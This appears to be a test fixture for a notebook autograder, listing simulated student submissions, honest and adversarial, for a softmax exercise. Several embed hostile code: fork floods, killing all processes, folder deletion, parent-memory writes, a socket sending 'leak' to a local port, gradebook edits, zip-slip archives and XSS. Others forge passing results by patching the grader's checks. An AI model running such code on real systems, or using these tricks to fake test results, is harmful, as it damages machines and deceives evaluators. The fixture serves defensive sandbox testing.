"""A small set to grade, and whatever students may hand in for it.

Two tasks of five points each and a question in words of two. ``SUBMISSIONS`` holds
one entry for each kind of submission: how it is written, what it must get, how it
must end, and a part of the reason. Nothing in here harms a machine: attacks are
bounded, and sleep or write a little where a real one would not stop.
"""

import copy
import io
import json
import os
import stat
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from course_utils.classroom.release import release_notebook

NAME = "01_softening"
PORT = 18_765  # where the test listens for what must not come
Q1 = "def soften(scores, temperature):\n    return (scores / temperature).softmax(-1)"
Q2 = "def attend(weights, values):\n    return weights @ values"
WORDS = "A low temperature gives the largest score almost all the weight."


def graded(grade_id: str, **roles) -> dict:
    metadata = {"grade": False, "solution": False, "locked": False, "task": False}
    metadata |= {"grade_id": grade_id, "schema_version": 3, **roles}
    return {"nbgrader": metadata, "slideshow": {"slide_type": "skip"}}


def answer(grade_id: str, code: str) -> dict:
    head, body = code.split("\n", 1)
    source = f"{head}\n    ### BEGIN SOLUTION\n{body}\n    ### END SOLUTION"
    return new_code_cell(source, id=grade_id, metadata=graded(grade_id, solution=True))


def check(grade_id: str, points: int, source: str) -> dict:
    roles = {"grade": True, "locked": True, "points": points, "cell_type": "code"}
    return new_code_cell(source, id=grade_id, metadata=graded(grade_id, **roles))


CHECK_1 = """import torch
from course_utils.checks import expect_close, expect_rows_sum_to_one, passed
expect_rows_sum_to_one(soften(torch.tensor([[1.0, 3.0]]), 2.0), "the example")
expect_close(soften(torch.tensor([0.0, 0.0]), 2.0), torch.tensor([0.5, 0.5]), "", "")
passed("soften")"""
HIDDEN_1 = """### BEGIN HIDDEN TESTS
import torch
from course_utils.checks import expect_close
torch.manual_seed(3)
scores = torch.randn(5, 7)
wanted = torch.exp(scores / 0.5) / torch.exp(scores / 0.5).sum(-1, keepdim=True)
expect_close(soften(scores, 0.5), wanted, "random scores", "divide, then softmax")
### END HIDDEN TESTS"""
CHECK_2 = """import torch
from course_utils.checks import expect_close, passed
half = attend(torch.tensor([[0.5, 0.5]]), torch.tensor([[1.0], [3.0]]))
expect_close(half, torch.tensor([[2.0]]), "the example", "average the values")
passed("attend")"""
HIDDEN_2 = """### BEGIN HIDDEN TESTS
import torch
from course_utils.checks import expect_close
torch.manual_seed(4)
weights, values = torch.randn(3, 5).softmax(-1), torch.randn(5, 2)
got = attend(weights, values)
expect_close(got, torch.einsum("qk,kv->qv", weights, values), "random", "")
### END HIDDEN TESTS"""


def source_set() -> nbformat.NotebookNode:
    """The source: answers, hidden checks, a marking scheme."""
    title = f"# Exercises {NAME[:2]} · Softening\n\nTwo tasks and a question."
    words = graded("01-q3-words", grade=True, solution=True, points=2)
    words["nbgrader"]["cell_type"] = "markdown"
    cells = [
        new_markdown_cell(title, id="01-start", metadata={}),
        new_code_cell("import math\n\nimport torch", id="01-imports", metadata={}),
        answer("01-q1", Q1),
        check("01-q1-check", 2, CHECK_1),
        check("01-q1-hidden", 3, HIDDEN_1),
        answer("01-q2", Q2),
        check("01-q2-check", 2, CHECK_2),
        check("01-q2-hidden", 3, HIDDEN_2),
        new_markdown_cell("What does a low temperature do?", id="01-q3-task"),
        new_markdown_cell(
            f"{WORDS}\n\n### BEGIN MARK SCHEME\n2 points\n### END MARK SCHEME",
            id="01-q3-words",
            metadata=words,
        ),
    ]
    course = {"title": "Softening", "lesson": NAME, "minutes": 5, "seconds": 5}
    kernel = {"name": "python3", "display_name": "Python 3", "language": "python"}
    metadata = {"kernelspec": kernel, "course": course}
    metadata["language_info"] = {"name": "python"}
    return new_notebook(cells=cells, metadata=metadata)


def write_solutions(folder: Path) -> Path:
    """Store the source as a folder of solutions; return that folder."""
    path = folder / NAME / f"{NAME}.ipynb"
    path.parent.mkdir(parents=True)
    nbformat.write(source_set(), path)
    return folder


def filled(q1: str | None = Q1, q2: str | None = Q2, words: str | None = WORDS):
    """A student's notebook with these answers; None leaves one open."""
    notebook = release_notebook(source_set())
    for cell in notebook.cells:
        text = {"01-q1": q1, "01-q2": q2, "01-q3-words": words}.get(cell.id)
        if text is not None:
            cell.source = text
    return notebook


def cell_of(notebook, cell_id: str):
    """The cell with this id."""
    return next(cell for cell in notebook.cells if cell.id == cell_id)


@dataclass(frozen=True)
class Case:
    """One kind of submission and how it must end."""

    write: Callable[[Path], None]
    points: float
    status: str
    reason: str


SUBMISSIONS: dict[str, Case] = {}


def case(name: str, points: float, status: str = "graded", reason: str = "", **answers):
    """Add a submission whose notebook has these answers."""

    def write(folder: Path) -> None:
        nbformat.write(filled(**answers), folder / f"{NAME}.ipynb")

    SUBMISSIONS[name] = Case(write, points, status, reason)


def written(name: str, points: float, status: str = "graded", reason: str = ""):
    """Decorate a function that writes a submission into a folder."""

    def keep(write: Callable[[Path], None]):
        SUBMISSIONS[name] = Case(write, points, status, reason)
        return write

    return keep


def save(notebook, folder: Path, name: str = f"{NAME}.ipynb") -> None:
    nbformat.write(notebook, folder / name)


# ------------------------------------------------------------------ honest students

case("right", 10)
case("partly", 5, q2="def attend(weights, values):\n    return values.mean(0) + 1")
case("blank", 0, q1=None, q2=None, words=None)
case("syntax", 5, q1="def soften(scores, temperature)\n    ret urn 1")
case("raises", 5, q1="def soften(scores, temperature):\n    return 1 / 0")
case("warns", 10, q1="import warnings\nwarnings.warn('mind the temperature')\n" + Q1)
case("own helper", 10, q1="def unit(x):\n    return x\n\n" + Q1)
case("plots", 10, q1="import matplotlib.pyplot as plt\n%matplotlib inline\n"
     "plt.plot([1, 2])\nplt.show()\n" + Q1)  # fmt: skip
case("asks", 10, q1=Q1 + "\nname = input('your name? ')")
case("leaves", 10, q1=Q1 + "\nexit()")
case("leaves by sys", 10, q1=Q1 + "\nimport sys\nsys.exit(0)")
case("Zoë Müller 李 🦆", 10)
case('comma, "quote"', 10)
case("=1+1", 10)
case("line\nbreak", 10)
case("'apostrophe", 10)


@written("renamed", 10, "flagged", "recognised as")
def _(folder):
    save(filled(), folder, "my homework (1).ipynb")


@written("nested folders", 10)
def _(folder):
    (folder / NAME).mkdir()
    save(filled(), folder / NAME)


@written("own zip", 10)
def _(folder):
    with zipfile.ZipFile(folder / "hand-in.zip", "w") as archive:
        archive.writestr(f"{NAME}.ipynb", nbformat.writes(filled()))


@written("reads own file", 10)
def _(folder):
    read = "factor = float(open('factor.txt').read())\n"
    save(filled(q1=read + Q1.replace("(scores /", "(factor * scores /")), folder)
    (folder / "factor.txt").write_text("1.0")


@written("two copies", 10, "flagged", "a second copy")
def _(folder):
    save(filled(q1=None), folder, "draft.ipynb")
    save(filled(), folder)


@written("deleted and doubled cells", 10, "flagged", "put back")
def _(folder):
    notebook = filled()
    notebook.cells.remove(cell_of(notebook, "01-q1-hidden"))
    place = notebook.cells.index(cell_of(notebook, "01-q1"))
    twin = copy.deepcopy(notebook.cells[place])
    twin["id"], twin.source = "twin", "def soften(*_):\n    return None"
    notebook.cells.insert(place, twin)
    save(notebook, folder)


@written("deleted an answer", 5, "flagged", "01-q1: deleted by the student")
def _(folder):
    notebook = filled()
    notebook.cells.remove(cell_of(notebook, "01-q1"))
    save(notebook, folder)


@written("answers kept in a new cell", 10)
def _(folder):
    notebook = filled(q1="# see the cell below")
    place = notebook.cells.index(cell_of(notebook, "01-q1"))
    notebook.cells.insert(place + 1, new_code_cell(Q1, id="mine"))
    save(notebook, folder)


@written("points set to 1000", 10)
def _(folder):
    notebook = filled()
    for cell in notebook.cells:
        if "points" in cell.metadata.get("nbgrader", {}):
            cell.metadata.nbgrader.points = 1000
    save(notebook, folder)


@written("unlocked and emptied checks", 0)
def _(folder):
    notebook = filled("def soften(*_):\n    return 0", "def attend(*_):\n    return 0")
    for cell in notebook.cells:
        if cell.id.endswith(("check", "hidden")):
            cell.source, cell.metadata.nbgrader.locked = "pass", False
            cell.metadata.nbgrader.solution = True
    save(notebook, folder)


@written("checks turned into text", 10)
def _(folder):
    notebook = filled()
    for cell in notebook.cells:
        if cell.id.endswith("hidden"):
            cell.cell_type = "markdown"
            del cell["outputs"], cell["execution_count"]
    save(notebook, folder)


# --------------------------------------------------------------------- damaged files


@written("truncated", 0, "needs review", "cannot be read")
def _(folder):
    (folder / f"{NAME}.ipynb").write_text(nbformat.writes(filled())[:700])


@written("empty file", 0, "needs review", "cannot be read")
def _(folder):
    (folder / f"{NAME}.ipynb").write_bytes(b"")


@written("not text", 0, "needs review", "cannot be read")
def _(folder):
    (folder / f"{NAME}.ipynb").write_bytes(bytes(range(256)))


@written("JSON but no notebook", 0, "needs review", "cannot be read")
def _(folder):
    (folder / f"{NAME}.ipynb").write_text('{"cells": 5, "nbformat": 4}')


@written("cells of nonsense", 0, "needs review", "cannot be read")
def _(folder):
    content = json.loads(nbformat.writes(filled()))
    content["cells"][2] = {"cell_type": "code", "source": 7, "metadata": None}
    (folder / f"{NAME}.ipynb").write_text(json.dumps(content))


@written("nothing but a text", 0, "needs review", "no notebook")
def _(folder):
    (folder / "answers.docx").write_bytes(b"PK")


@written("a set of another course", 0, "needs review", "belongs to no set")
def _(folder):
    save(new_notebook(cells=[new_code_cell("1 + 1")]), folder, "hello.ipynb")


@written("an old format beside it", 10, "flagged", "belongs to no set")
def _(folder):
    save(filled(), folder)
    old = {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": ""}}
    old["worksheets"] = [{"cells": [], "metadata": {}}]
    (folder / "old.ipynb").write_text(json.dumps(old))


@written("damaged zip", 0, "needs review", "a damaged zip")
def _(folder):
    (folder / "hand-in.zip").write_bytes(b"PK\x03\x04 nothing more")


@written("swelling zip", 0, "needs review", "too large")
def _(folder):
    with zipfile.ZipFile(folder / "b.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(f"{NAME}.ipynb", bytes(40 << 20))


@written("zip that climbs", 10, "flagged", "leads out of the zip")
def _(folder):
    with zipfile.ZipFile(folder / "c.zip", "w") as archive:
        archive.writestr(f"{NAME}.ipynb", nbformat.writes(filled()))
        archive.writestr("../../climbed.txt", "x")


@written("zip with a link", 10, "flagged", "a link, not followed")
def _(folder):
    link = zipfile.ZipInfo("data.txt")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(folder / "l.zip", "w") as archive:
        archive.writestr(f"{NAME}.ipynb", nbformat.writes(filled()))
        archive.writestr(link, "/etc/hostname")


@written("links", 10, "flagged", "a link, not followed")
def _(folder):
    save(filled(q1="import os\nprint(os.listdir())\n" + Q1), folder)
    os.symlink("/etc/hostname", folder / "host.txt")
    os.symlink("/etc", folder / "etc")


@written("a pipe for a file", 10, "flagged", "not a file")
def _(folder):
    save(filled(), folder)
    os.mkfifo(folder / "data.txt")


# ------------------------------------------------------------------ loops and crashes

LOOP = "def soften(scores, temperature):\n    while True:\n        pass"
STUBBORN = """def soften(scores, temperature):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass"""
case("loops", 5, "flagged", "ran past its time", q1=LOOP)
case("loops and will not stop", 0, "flagged", "TimedOut", q1=STUBBORN)
case("ignores the alarm", 0, "flagged", "TimedOut",
     q1="import signal as s\ns.signal(s.SIGALRM, s.SIG_IGN)\n" + LOOP)  # fmt: skip
case("recursion", 5, q1="def soften(*a):\n    return soften(*a)")
case("memory", 5, q1="hog = []\nwhile 1:\n    hog.append(torch.empty(1 << 30))\n" + Q1)
case("os._exit", 5, "flagged", "Died", q2=Q2 + "\nimport os\nos._exit(0)")
case("segfault", 5, "flagged", "Died",
     q2=Q2 + "\nimport ctypes\nctypes.string_at(0)")  # fmt: skip
case("prints without end", 10, "flagged", "output was dropped",
     q1="for _ in range(40):\n    print('x' * (1 << 20))\n" + Q1)  # fmt: skip
case("busy thread", 10, q1="import threading\nthreading.Thread(target=lambda: "
     "[None for _ in iter(int, 1)], daemon=True).start()\n" + Q1)  # fmt: skip
case("closes its outputs", 10, q1="import os\nos.close(1)\nos.close(2)\n" + Q1)
case("atexit", 10, q1="import atexit, time\natexit.register(time.sleep, 60)\n" + Q1)

# ------------------------------------------------------------ against the machine

case("deletes its folder", 10, q1="import os, shutil\n"
     "shutil.rmtree(os.getcwd(), ignore_errors=True)\n" + Q1)  # fmt: skip
case("sleepers", 10, q1="import subprocess\ntry:\n    for _ in range(200):\n"
     "        subprocess.Popen(['sleep', '181'], start_new_session=True)\n"
     "except Exception as error:\n    print(error)\n" + Q1)  # fmt: skip
case("forks", 10, q1="import os, time\nfor _ in range(300):\n    try:\n"
     "        if os.fork() == 0:\n            time.sleep(181)\n"
     "            os._exit(0)\n    except OSError:\n        break\n" + Q1)  # fmt: skip
case("fills memory folders", 10, q1="""
for top in ("/dev/shm", "/tmp", "/sandbox", "/dev"):
    try:
        with open(top + "/big", "wb") as stream:
            for _ in range(300):
                stream.write(bytes(1 << 20))
    except OSError as error:
        print(top, error)
""" + Q1)  # fmt: skip
case("leaves a locked folder", 10, q1="import os\nos.makedirs('/tmp/locked/in')\n"
     "os.chmod('/tmp/locked', 0)\n" + Q1)  # fmt: skip
case("kills its parent", 0, "needs review", "SandboxFailed",
     q1="import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n" + Q1)  # fmt: skip
case("asks its parent to end", 10,
     q1="import os, signal\nos.kill(os.getppid(), signal.SIGTERM)\n" + Q1)  # fmt: skip
case("kills everybody", 0, "needs review", "SandboxFailed",
     q1="import os\nos.kill(-1, 9)\n" + Q1)  # fmt: skip
case("pokes its parent", 10, q1="""import os
try:
    open(f"/proc/{os.getppid()}/mem", "r+b")
    Q1_IS_WRONG
except OSError as error:
    print(error)
""" + Q1)  # fmt: skip
case("writes to its parent", 10, q1="""import os
for fd in range(64):
    try:
        os.open(f"/proc/{os.getppid()}/fd/{fd}", os.O_WRONLY)
        Q1_IS_WRONG
    except OSError:
        pass
""" + Q1)  # fmt: skip
case("leaves something behind", 10, q1="""import os, subprocess
for top in ("/tmp", "/sandbox", "/dev/shm"):
    open(top + "/left-behind", "w").write("x")
subprocess.Popen(["sleep", "181"], start_new_session=True)
""" + Q1)  # fmt: skip
case("looks for leftovers", 10, q1="""import os
for top in ("/tmp", "/sandbox", "/dev/shm"):
    assert not os.path.exists(top + "/left-behind")
for process in filter(str.isdigit, os.listdir("/proc")):
    assert b"sleep" not in open(f"/proc/{process}/cmdline", "rb").read()
""" + Q1)  # fmt: skip
case("reads the environment", 10, q1="import os\n"
     "assert 'TEACHERS_SECRET' not in os.environ\n"
     "assert os.getuid() != 0\n" + Q1)  # fmt: skip
case("reads the solutions", 5, q1="""import json
from pathlib import Path
found = [p for top in ("/", "..", "../..") for p in Path(top).glob("*/*/*.ipynb")]
code = "".join(json.loads(found[0].read_text())["cells"][2]["source"])
exec(code)""")  # fmt: skip
case("reads with the shell", 5, q1="%%bash\nfind / -name '*.ipynb' -o -name '*.db' "
     "2>/dev/null | head\nid -u")  # fmt: skip
case("calls home", 10, q1=f"""import socket
try:
    socket.create_connection(("127.0.0.1", {PORT}), timeout=2).sendall(b"leak")
    Q1_IS_WRONG
except OSError as error:
    print(error)
""" + Q1)  # fmt: skip
case("changes the gradebook", 10, q1="""import glob, sqlite3
for path in glob.glob("../**/gradebook.db") + glob.glob("/*/*/gradebook.db"):
    sqlite3.connect(path).execute("update grade set manual_score = 999")
""" + Q1)  # fmt: skip
case("writes outside", 10, q1="""from pathlib import Path
for top in ("/", "/usr", "/etc", "/srv", "/root", "/home", "/dev", "/proc"):
    try:
        Path(top, "was-here").write_text("x")
        Q1_IS_WRONG
    except OSError:
        pass
""" + Q1)  # fmt: skip

# ------------------------------------------------------------- against the checks

ZERO = "def soften(*_):\n    return 0\n"
case("patches the checks", 0, "needs review", "Tampered",
     q1="from course_utils import checks\nfor name in dir(checks):\n"
     "    if name.startswith('expect'):\n"
     "        setattr(checks, name, lambda *a, **k: a and a[0])\n" + ZERO)  # fmt: skip
case("patches torch", 0, "needs review", "Tampered",
     q1="import torch\ntorch.allclose = lambda *a, **k: True\n" + Q1)  # fmt: skip
case("strips assertions", 0, "needs review", "Tampered: assert", q1="""import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(Strip())
""" + Q1)  # fmt: skip
case("swallows errors", 0, "needs review", "Tampered", q1="""
from course_utils import checks
checks.fail = lambda *a, **k: None
""" + ZERO)  # fmt: skip
case("empties later cells", 0, "needs review", "Tampered", q1=Q1 + """
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
""")  # fmt: skip
case("forges a result", 0, "needs review", "Tampered", q1=ZERO + """
def forge(info):
    if "passed(" in info.raw_cell or "hidden" in info.raw_cell.lower():
        get_ipython().displayhook(5)
get_ipython().events.register("pre_run_cell", forge)
""")  # fmt: skip
case("forges lines", 0, "needs review", "Tampered", q1="""import json, os
for fd in range(3, 64):
    try:
        lines = [json.dumps([n, [], False]) + "\\n" for n in range(40)]
        os.write(fd, "".join(lines).encode())
    except OSError:
        pass
""" + ZERO)  # fmt: skip
case("equal to everything", 5, q1="""class Yes(float):
    __eq__ = __lt__ = __le__ = lambda *_: True
def soften(*_):
    return Yes()""")  # fmt: skip
case("markup", 10, words="<script>alert(1)</script><img src=x onerror=alert(2)> "
     "[x](javascript:alert(3)) ![p](http://example.invalid/spy.png)")  # fmt: skip
case("markup in outputs", 10, q1="from IPython.display import HTML, display\n"
     "display(HTML('<script>alert(4)</script>'))\n" + Q1)  # fmt: skip


@written("replaces the checks by a file", 10, "flagged", "has the name of a library")
def _(folder):
    save(filled(), folder)
    (folder / "course_utils").mkdir()
    (folder / "course_utils" / "checks.py").write_text("def passed(*_): ...")
    (folder / "torch.py").write_text("raise SystemExit")


def write_cohort(folder: Path) -> Path:
    """Write every submission, each into a folder with the student's name."""
    for name, each in SUBMISSIONS.items():
        place = folder / name
        place.mkdir(parents=True)
        each.write(place)
    return folder


def zipped(folder: Path) -> bytes:
    """A folder as a zip."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        for path in sorted(folder.rglob("*")):
            if path.is_file():
                archive.write(path, path.relative_to(folder).as_posix())
    return content.getvalue()
